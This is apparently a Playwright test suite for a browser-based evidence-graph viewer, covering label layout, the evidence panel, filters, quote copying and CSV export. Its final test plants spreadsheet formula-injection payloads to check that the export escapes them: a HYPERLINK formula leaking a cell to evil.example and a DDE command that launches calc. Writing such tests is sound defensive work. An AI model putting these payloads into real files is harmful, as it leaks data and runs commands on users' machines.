"""The page stays readable, checked in a real browser (Debian's Chromium through Playwright).

A click keeps the zoom and the labels (the evidence panel lies over the canvas); the panel
groups claims by predicate, strongest first, two quotes each with the rest folded; a filter
leaves no concept without a drawn claim and the count line counts what is drawn; labels do
not collide; a quote is copied with its citation; the visible claims export as CSV, safe
to open in a spreadsheet. Screenshots at 1400x900 and 1024x700 go to ``tests/artifacts/``.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from graph.evidence_graph import EvidenceGraph
from graph.model import Claim, Concept, Evidence, Source
from graph.render.html import find_concept_id, write_html
from test_html import ARTIFACTS, browser, seed_graph, seed_page, visit  # noqa: F401  (fixtures)

VIEWPORTS = [(1400, 900), (1024, 700)]


def dom_point(v, node_id: str) -> dict:
    return v.js("""(id) => { const n = window.evidenceGraph.network; const p = n.canvasToDOM(n.getPositions([id])[id]);
                   const r = document.getElementById('network').getBoundingClientRect();
                   return {x: r.left + p.x, y: r.top + p.y}; }""", node_id)


def drawn_state(v) -> dict:
    return v.js("""() => { const g = window.evidenceGraph;
        const edges = g.edgesView.get().map(e => g.data.edgeIndex[e.id]);
        return {nodes: g.nodesView.getIds(), edges: edges.map(e => ({id: e.id, kind: e.kind, from: e.from, to: e.to})),
                counts: document.getElementById('counts').textContent}; }""")


def label_boxes(v) -> list[dict]:
    """The screen boxes of the labels drawn, measured with the canvas's own text metrics."""
    return v.js("""() => { const g = window.evidenceGraph, net = g.network, ctx = document.createElement('canvas').getContext('2d');
        const scale = net.getScale(), out = [];
        g.nodesView.get().filter(n => n.label).forEach(n => {
            const body = net.body.nodes[n.id], px = n.font.size * scale;
            ctx.font = px + 'px system-ui, sans-serif';
            const w = ctx.measureText(n.label).width, p = net.canvasToDOM(net.getPositions([n.id])[n.id]);
            const top = n.shape === 'box' ? p.y - px / 2 : p.y + body.options.size * scale + 2;
            out.push({id: n.id, px: px, x0: p.x - w / 2, x1: p.x + w / 2, y0: top, y1: top + px});
        });
        return out; }""")


@pytest.mark.parametrize("viewport", VIEWPORTS, ids=lambda vp: f"{vp[0]}x{vp[1]}")
def test_click_keeps_zoom_and_labels(visit, seed_graph, seed_page, viewport):
    v = visit(seed_page, viewport=viewport)
    ketamine = find_concept_id(seed_graph, "ketamine")
    before_scale = v.js("window.evidenceGraph.network.getScale()")
    before_labels = v.js("window.evidenceGraph.visibleLabels()")
    canvas_width = v.js("document.getElementById('network').clientWidth")
    assert len(before_labels) >= 15
    tag = f"{viewport[0]}x{viewport[1]}"
    ARTIFACTS.mkdir(exist_ok=True)
    v.page.screenshot(path=str(ARTIFACTS / f"seed-graph-{tag}.png"))
    point = dom_point(v, ketamine)
    v.page.mouse.click(point["x"], point["y"])
    v.page.wait_for_selector("#panel:not([hidden])")
    v.page.wait_for_timeout(150)  # labels are placed again shortly after a pan
    assert v.js("window.evidenceGraph.network.getScale()") >= before_scale - 1e-9
    assert v.js("document.getElementById('network').clientWidth") == canvas_width  # the panel lies over it
    after_labels = v.js("window.evidenceGraph.visibleLabels()")
    assert ketamine in after_labels and len(after_labels) >= len(before_labels) * 0.6
    # The clicked concept is not under the panel.
    point = dom_point(v, ketamine)
    panel_left = v.js("document.getElementById('panel').getBoundingClientRect().left")
    assert point["x"] < panel_left - 20
    v.page.screenshot(path=str(ARTIFACTS / f"seed-evidence-panel-{tag}.png"))
    v.check_clean()


def test_labels_do_not_collide_and_grow_with_importance(visit, seed_graph, seed_page):
    v = visit(seed_page)
    boxes = label_boxes(v)
    assert len(boxes) >= 15
    overlaps = [(a["id"], b["id"]) for i, a in enumerate(boxes) for b in boxes[i + 1:]
                if a["x0"] < b["x1"] - 1 and b["x0"] < a["x1"] - 1 and a["y0"] < b["y1"] - 1 and b["y0"] < a["y1"] - 1]
    assert overlaps == []
    assert min(b["px"] for b in boxes) >= 10.9  # readable at the initial zoom
    size = {b["id"]: b["px"] for b in boxes}
    ketamine = find_concept_id(seed_graph, "ketamine")
    assert size[ketamine] == max(size.values())
    # Zooming in makes room: more labels.
    v.js("window.evidenceGraph.network.moveTo({scale: window.evidenceGraph.network.getScale() * 3, animation: false})")
    v.js("window.evidenceGraph.placeLabels()")
    assert len(label_boxes(v)) > len(boxes)
    v.check_clean()


def test_panel_groups_by_predicate_strongest_first_two_quotes(visit, seed_graph, seed_page):
    v = visit(seed_page)
    ptsd = find_concept_id(seed_graph, "ptsd")
    v.js("(id) => window.evidenceGraph.focusConcept(id)", ptsd)
    groups = v.page.locator("#panel h4.pred-group").evaluate_all("els => els.map(e => e.dataset.predicate)")
    from graph.model import PREDICATES

    # Within each section the groups follow the predicate order (treats first).
    sections = v.js("""() => { const out = []; let cur = null;
        document.querySelectorAll('#panel h3, #panel h4.pred-group').forEach(e => {
            if (e.tagName === 'H3') { cur = []; out.push(cur); } else cur.push(e.dataset.predicate); });
        return out; }""")
    assert groups and all(sec == sorted(sec, key=PREDICATES.index) for sec in sections)
    cards = v.page.locator("#panel .claim").evaluate_all(
        """els => els.map(e => ({id: e.dataset.claim, shown: e.querySelectorAll(':scope > ol.evidence > li.ev').length,
                                 all: e.querySelectorAll('li.ev').length,
                                 folded: e.querySelector('details.more-quotes') ? e.querySelector('details.more-quotes').open : null}))""")
    about = {cid for cid, c in seed_graph.claims.items() if ptsd in (c.subject, c.object)}
    assert {c["id"] for c in cards} == about
    for card in cards:
        claim = seed_graph.claims[card["id"]]
        assert card["all"] == len(claim.evidence)
        assert card["shown"] == min(2, len(claim.evidence))
        assert card["folded"] is (False if len(claim.evidence) > 2 else None)

    belief = v.js("() => Object.fromEntries(Object.entries(window.evidenceGraph.data.claims).map(([k, c]) => [k, c.belief || 0]))")

    def strength(c):
        return belief[c.id] * 100 + c.support * 4 + (2 if c.cited else 0) + (1 if c.certainty == "asserted" else 0)

    # Within a group, strongest first (belief, then support, a cited study, asserted).
    by_group: dict[tuple[int, str], list[int]] = {}
    group_of = v.js("""() => { const out = {}; let sec = -1, pred = null;
        document.querySelectorAll('#panel h3, #panel h4.pred-group, #panel .claim').forEach(e => {
            if (e.tagName === 'H3') sec++; else if (e.tagName === 'H4') pred = e.dataset.predicate;
            else out[e.dataset.claim] = [sec, pred]; });
        return out; }""")
    for card in cards:
        by_group.setdefault(tuple(group_of[card["id"]]), []).append(strength(seed_graph.claims[card["id"]]))
    assert all(vals == sorted(vals, reverse=True) for vals in by_group.values())
    # The first quote of a multi-source claim and the second come from two sources.
    multi = [c for c in cards if len({e.source_id for e in seed_graph.claims[c["id"]].evidence}) > 1]
    assert multi
    for card in multi:
        shown = v.page.locator(f'#panel .claim[data-claim="{card["id"]}"] > ol.evidence > li.ev').evaluate_all(
            "els => els.map(e => e.dataset.source)")
        assert len(set(shown)) == 2
    v.check_clean()


def test_filters_leave_no_concept_without_a_drawn_claim(visit, seed_graph, seed_page):
    v = visit(seed_page)

    def check(expect_nodes=None):
        state = drawn_state(v)
        nodes = set(state["nodes"])
        claim_ends: set[str] = set()
        for e in state["edges"]:
            assert e["from"] in nodes and e["to"] in nodes
            if e["kind"] == "claim":
                claim_ends |= {e["from"], e["to"]}
        backing = {e["from"] for e in state["edges"] if e["kind"] == "backs"}
        orgs = {e["to"] for e in state["edges"] if e["kind"] == "conducted_by" and e["from"] in backing}
        assert nodes == claim_ends | backing | orgs
        claims = sum(1 for e in state["edges"] if e["kind"] == "claim")
        m = re.match(r"Visible: (\d+) concepts?, (\d+) claims?\.", state["counts"])
        assert m and (int(m.group(1)), int(m.group(2))) == (len(nodes), claims)
        if expect_nodes is not None:
            assert nodes == expect_nodes
        return nodes, claims

    all_nodes, all_claims = check()
    assert all_claims == len(seed_graph.claims)
    for value in ("causes", "co_occurs_with", "risk_factor_for", "subclass_of", "study_links"):
        v.page.locator(f'#filter-predicate input[value="{value}"]').uncheck()
        check()
    kept = [c for c in seed_graph.claims.values() if c.predicate not in ("causes", "co_occurs_with", "risk_factor_for", "subclass_of")]
    check({end for c in kept for end in (c.subject, c.object)})
    v.page.locator('#filter-category input[value="Condition"]').uncheck()
    nodes, _ = check()
    assert not {n for n in nodes if seed_graph.concepts[n].category == "Condition"}
    v.page.locator('#filter-certainty input[value="asserted"]').uncheck()
    hedged = [c for c in kept if c.certainty == "hedged" and seed_graph.concepts[c.subject].category != "Condition"
              and seed_graph.concepts[c.object].category != "Condition"]
    check({end for c in hedged for end in (c.subject, c.object)})
    ARTIFACTS.mkdir(exist_ok=True)
    v.page.screenshot(path=str(ARTIFACTS / "seed-graph-filtered.png"))
    v.check_clean()


def test_copy_quote_with_citation(visit, seed_graph, seed_page, browser):
    v = visit(seed_page)
    v.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ketamine = find_concept_id(seed_graph, "ketamine")
    v.js("(id) => window.evidenceGraph.focusConcept(id)", ketamine)
    item = v.page.locator("#panel li.ev").first
    source_id = item.get_attribute("data-source")
    sentence = item.locator("q").text_content()
    source = seed_graph.sources[source_id]
    item.locator("button.copy").click()
    for _ in range(50):  # the Clipboard API answers asynchronously
        if v.js("!!window.evidenceGraph.lastCopy"):
            break
        v.page.wait_for_timeout(50)
    copied = v.js("navigator.clipboard.readText()")
    assert copied.startswith(f"\u201c{sentence}\u201d \u2014 {source.title}")
    assert all(part in copied for part in (source.publisher, source.url) if part)
    assert v.js("window.evidenceGraph.lastCopy.via") == "clipboard"
    # Without the Clipboard API: the copy command on a hidden text area.
    v.js("""() => { Object.defineProperty(navigator, 'clipboard', {value: undefined, configurable: true});
        window.__copied = null; window.evidenceGraph.lastCopy = null;
        document.addEventListener('copy', e => { const t = e.target;
            window.__copied = t.value.substring(t.selectionStart, t.selectionEnd); }); }""")
    second = v.page.locator("#panel li.ev").nth(1)
    second.locator("button.copy").click()
    last = v.js("window.evidenceGraph.lastCopy")
    assert last["via"] == "execCommand" and last["ok"]
    assert v.js("window.__copied") == last["text"]
    assert second.locator("q").text_content() in last["text"]
    v.check_clean()


def read_download(v, selector: str) -> list[dict]:
    with v.page.expect_download() as info:
        v.page.locator(selector).click()
    download = info.value
    assert download.suggested_filename.endswith(".csv")
    text = open(download.path(), encoding="utf-8-sig", newline="").read()
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_export_of_the_visible_claims(visit, seed_graph, seed_page):
    v = visit(seed_page)
    rows = read_download(v, "#export-visible")
    assert len(rows) == sum(len(c.evidence) for c in seed_graph.claims.values())
    evidence = {(e.source_id, e.sentence) for c in seed_graph.claims.values() for e in c.evidence}
    assert {(r["source_id"], r["sentence"]) for r in rows} == evidence
    assert {r["claim_id"] for r in rows} == set(seed_graph.claims)
    v.page.locator('#filter-certainty input[value="hedged"]').uncheck()
    rows = read_download(v, "#export-visible")
    assert rows and {r["certainty"] for r in rows} == {"asserted"}
    assert {r["claim_id"] for r in rows} == set(v.js("window.evidenceGraph.visibleClaimIds()"))
    # The panel exports its own claims.
    ketamine = find_concept_id(seed_graph, "ketamine")
    v.js("(id) => window.evidenceGraph.focusConcept(id)", ketamine)
    rows = read_download(v, "#panel .panel-tools button.export")
    assert {r["claim_id"] for r in rows} == {cid for cid, c in seed_graph.claims.items() if ketamine in (c.subject, c.object)}
    v.check_clean()


def test_csv_export_is_safe_in_a_spreadsheet(visit, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    g = EvidenceGraph(
        sources=[Source("s1", "...", title="+cmd|' /C calc'!A0", publisher="@SUM(1,1)", url="https://example.org/a")],
        concepts=[Concept("ketamine", "ketamine", "Drug"), Concept("pain", "-pain", "Condition")],
        claims=[Claim("ketamine", "treats", "pain", evidence=(Evidence("s1", hostile, 0, len(hostile)),))],
    )
    path = tmp_path / "graph.html"
    write_html(g, path)
    v = visit(path)
    rows = read_download(v, "#export-visible")
    assert len(rows) == 1
    row = rows[0]
    assert row["sentence"] == "'" + hostile
    assert row["source_title"] == "'+cmd|' /C calc'!A0" and row["publisher"] == "'@SUM(1,1)" and row["object"] == "'-pain"
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]
    v.check_clean()
